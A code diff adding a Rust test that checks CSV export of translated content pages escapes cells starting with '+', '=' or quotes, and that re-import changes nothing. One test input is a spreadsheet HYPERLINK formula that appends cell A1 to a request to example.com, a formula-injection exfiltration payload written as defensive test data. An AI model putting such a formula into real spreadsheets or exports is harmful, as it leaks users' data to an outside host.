@@ -44,6 +44,25 @@ fn xml_that_means_harm_is_refused() {
 }
 
 #[test]
+fn cells_that_a_table_would_compute_are_text() {
+    let desk = Desk::new();
+    let page = "content/guides/new.md";
+    let text = "+1 is said.\n\n'=1 is not.\n\n\'\'=2 is not either.\n\n'Begin'.";
+    desk.edit(page, "Begin.", text);
+    let own = "translations/zh/content/guides/start.md";
+    desk.edit(own, "打开门，\n进去。", "=HYPERLINK(\"https://example.com/?\"&A1)");
+    let table = desk.export("csv", &["--all"]);
+    let cells = [",'+1 is said.,", ",\'\'=1 is not.,", ",\'\'\'=2 is not either.,", ",'Begin'.,"];
+    for cell in cells.into_iter().chain([",\"'=HYPERLINK("]) {
+        assert!(table.contains(cell), "{cell} {table}");
+    }
+    let before = desk.files();
+    let (code, told) = desk.import("csv", &table, &[]);
+    assert_eq!(code, 0, "{told}");
+    assert_eq!(desk.files(), before, "{told}");
+}
+
+#[test]
 fn malformed_catalogues_and_tables_are_refused() {
     refused("po", "msgctxt \"a\nmsgid \"b\"", "in.po:1:9: the string does not end on its line");
     refused(
